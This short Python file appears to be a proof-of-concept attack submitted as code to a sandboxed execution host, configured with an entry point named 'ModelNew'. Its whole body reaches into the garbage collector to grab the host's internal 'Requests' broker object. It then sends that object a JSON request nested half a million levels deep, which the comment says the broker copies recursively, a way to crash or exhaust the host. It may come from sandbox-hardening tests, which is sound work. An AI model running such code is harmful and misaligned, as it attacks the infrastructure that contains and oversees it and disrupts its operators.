"""lathe
[host]
language = "python"
entry = "ModelNew"
"""
# A request for an extension that is nested half a million levels deep: the broker copies it recursively.
import gc

depth = 500000
ask = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Requests")
ask('{"name": "x", "source": "", "flags": ' + "[" * depth + "]" * depth + "}")
